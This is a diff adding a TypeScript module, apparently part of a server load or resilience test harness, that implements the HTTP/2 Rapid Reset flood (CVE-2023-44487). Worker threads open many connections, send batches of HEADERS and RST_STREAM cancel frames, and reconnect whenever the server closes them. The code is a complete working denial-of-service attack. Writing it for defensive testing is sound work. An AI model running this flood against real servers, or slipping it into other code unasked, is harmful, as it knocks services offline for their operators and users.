@@ -1,0 +1,137 @@
+/**
+ * Clients that begin streams and cancel them at once (CVE-2023-44487): each connection sends HEADERS and RST_STREAM as
+ * fast as its socket takes them, once it has acknowledged settings, or at once and without that, and is opened again
+ * when the server ends it. In a thread of its own, so that those who measure are not late because of it.
+ */
+import { connect, type Socket } from 'node:net';
+import { isMainThread, parentPort, Worker, workerData } from 'node:worker_threads';
+import { frameOf, grpcHeaders, PREFACE } from './http2-connection.ts';
+
+export interface Flood {
+  readonly path: string;
+  readonly host: string;
+  readonly port: number;
+  readonly connections: number;
+  /** Whether it acknowledges settings. */
+  readonly isPolite: boolean;
+}
+
+export interface FloodCounts {
+  /** Streams that were begun and cancelled. */
+  readonly streams: number;
+  /** Connections that the server has ended. */
+  readonly ended: number;
+}
+
+const FRAME_HEADER_BYTES = 9;
+const SETTINGS = 4;
+const HEADERS = 1;
+const RST_STREAM = 3;
+const END_HEADERS = 4;
+const ACK = 1;
+const CANCEL = 8;
+/** In one write; some 64 KiB. */
+const STREAMS_PER_WRITE = 500;
+/** The end of the numbers of one connection is far. */
+const STREAM_MAX = 2 ** 31 - 2 * STREAMS_PER_WRITE;
+/** Before it comes again. */
+const REST_MS = 10;
+
+/** Goes on until it is stopped. */
+export class RunningFlood {
+  readonly #worker: Worker;
+
+  constructor(flood: Flood) {
+    this.#worker = new Worker(import.meta.filename, { workerData: flood, execArgv: ['--conditions=source'] });
+  }
+
+  async stop(): Promise<FloodCounts> {
+    const counts = new Promise<FloodCounts>((resolve) => {
+      this.#worker.once('message', resolve);
+    });
+    this.#worker.postMessage('stop', []);
+    const counted = await counts;
+    await this.#worker.terminate();
+    return counted;
+  }
+}
+
+class Flooding {
+  readonly #flood: Flood;
+  readonly #headers: Buffer;
+  readonly #counts = { streams: 0, ended: 0 };
+  readonly #sockets = new Set<Socket>();
+
+  constructor(flood: Flood) {
+    this.#flood = flood;
+    this.#headers = grpcHeaders(flood.path);
+    for (let n = 0; n < flood.connections; n++) this.#open();
+  }
+
+  stop(): FloodCounts {
+    for (const socket of this.#sockets) socket.removeAllListeners('close').destroy();
+    return this.#counts;
+  }
+
+  #open(): void {
+    const { host, port, isPolite } = this.#flood;
+    const socket = connect({ host, port });
+    this.#sockets.add(socket);
+    let stream = 1;
+    const send = (): void => {
+      do {
+        stream += 2 * STREAMS_PER_WRITE;
+        this.#counts.streams += STREAMS_PER_WRITE;
+      } while (socket.write(this.#pairs(stream - 2 * STREAMS_PER_WRITE)) && stream < STREAM_MAX);
+    };
+    socket.on('error', () => undefined);
+    socket.once('connect', () => {
+      socket.write(PREFACE);
+      socket.write(frameOf({ type: SETTINGS, flags: 0, stream: 0, payload: Buffer.alloc(0) }));
+      if (!isPolite) send();
+    });
+    let isFirst = true;
+    onSettings(socket, () => {
+      if (!isPolite) return;
+      socket.write(frameOf({ type: SETTINGS, flags: ACK, stream: 0, payload: Buffer.alloc(0) }));
+      if (isFirst) send();
+      isFirst = false;
+    });
+    socket.on('drain', send);
+    socket.once('close', () => {
+      this.#sockets.delete(socket);
+      this.#counts.ended += 1;
+      setTimeout(() => this.#open(), REST_MS);
+    });
+  }
+
+  #pairs(from: number): Buffer {
+    const reason = Buffer.from([0, 0, 0, CANCEL]);
+    const frames: Buffer[] = [];
+    for (let stream = from; stream < from + 2 * STREAMS_PER_WRITE; stream += 2) {
+      frames.push(frameOf({ type: HEADERS, flags: END_HEADERS, stream, payload: this.#headers }));
+      frames.push(frameOf({ type: RST_STREAM, flags: 0, stream, payload: reason }));
+    }
+    return Buffer.concat(frames);
+  }
+}
+
+/** Reads what the server sends, and tells of each SETTINGS that is not an acknowledgement. */
+function onSettings(socket: Socket, told: () => void): void {
+  let rest = Buffer.alloc(0);
+  socket.on('data', (piece: Buffer) => {
+    rest = Buffer.concat([rest, piece]);
+    while (rest.length >= FRAME_HEADER_BYTES) {
+      const end = FRAME_HEADER_BYTES + rest.readUIntBE(0, 3);
+      if (rest.length < end) return;
+      if (rest.readUInt8(3) === SETTINGS && (rest.readUInt8(4) & ACK) === 0) told();
+      rest = rest.subarray(end);
+    }
+  });
+}
+
+if (!isMainThread && parentPort !== null) {
+  const port = parentPort;
+  const flooding = new Flooding(workerData as Flood);
+  port.once('message', () => port.postMessage(flooding.stop(), []));
+}
